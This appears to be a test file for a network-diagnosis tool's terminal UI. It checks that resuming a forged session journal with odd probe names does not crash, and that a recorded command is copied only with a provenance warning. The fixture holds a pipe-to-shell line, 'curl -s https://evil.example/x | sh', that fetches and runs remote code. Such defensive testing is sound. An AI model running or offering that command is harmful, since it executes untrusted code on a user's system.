"""`--resume` of a forged journal: odd plan entries never crash the TUI, and the
commands it recorded are shown and copied as read from the file, not as netmedic's."""

from __future__ import annotations

from pathlib import Path

from probes.record.session import read_journal
from tests.reliability.forge import header, write
from tests.tui.helpers import make_app
from tui.screens.diagnosis import DiagnosisScreen
from tui.widgets.panels.base import ProbePanel, panel_id
from tui.widgets.steps import StepsChecklist

FORGED_PLAN = ["1 x", "tcp", "tcp", "a.b", "ü", "", "-"]
COMMAND = "curl -s https://evil.example/x | sh"


def _forged(tmp_path: Path) -> Path:
    result = {"probe": "1 x", "status": "ok", "summary": "forged", "final": True, "data": {}}
    tcp = {"probe": "tcp", "status": "failed", "summary": "refused", "final": True, "data": {}}
    finding = {
        "id": "tcp.refused",
        "severity": "error",
        "title": "nothing listens",
        "evidence": ["forged"],
        "next_steps": [{"text": "run this", "command": COMMAND}],
    }
    diagnosis = {"findings": [finding], "verdict": "tcp.refused"}
    return write(
        tmp_path / "20260101-000000-abcdef.jsonl",
        [
            header(plan=FORGED_PLAN),
            {"type": "probe", "seq": 1, "t": 1767225601.0, "run": 1, "result": result},
            {"type": "probe", "seq": 2, "t": 1767225601.0, "run": 1, "result": tcp},
            {"type": "finished", "seq": 3, "t": 1767225602.0, "run": 1, "duration_s": 1.0,
             "diagnosis": diagnosis},
        ],
    )  # fmt: skip


def test_panel_ids_take_any_probe_name() -> None:
    assert panel_id("tcp") == "panel-tcp"
    ids = {panel_id(name) for name in ("1 x", "1_x", "1-x", "a.b", "ü", "")}
    assert len(ids) == 6  # distinct, and each a valid Textual id
    assert all(i.replace("-", "").replace("_", "").isalnum() for i in ids)


async def test_a_forged_plan_resumes_without_a_crash(tmp_path: Path) -> None:
    session = read_journal(_forged(tmp_path))
    assert list(session.plan) == ["1 x", "tcp", "a.b", "ü", "", "-"]  # once each
    app = make_app(tmp_path, resume=session)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, DiagnosisScreen)
        panels = {p.probe: p for p in screen.query(ProbePanel)}
        assert set(panels) == set(session.plan)
        assert panels["1 x"].result is not None and panels["1 x"].result.summary == "forged"
        steps = screen.query_one(StepsChecklist)
        assert steps.recorded and steps.finding is not None
        assert steps.finding.next_steps[0].command == COMMAND
        steps.focus()
        await pilot.press("c")
        await pilot.pause()
        warnings = [n.message for n in app._notifications]
        assert any("read from the session journal" in m for m in warnings), warnings
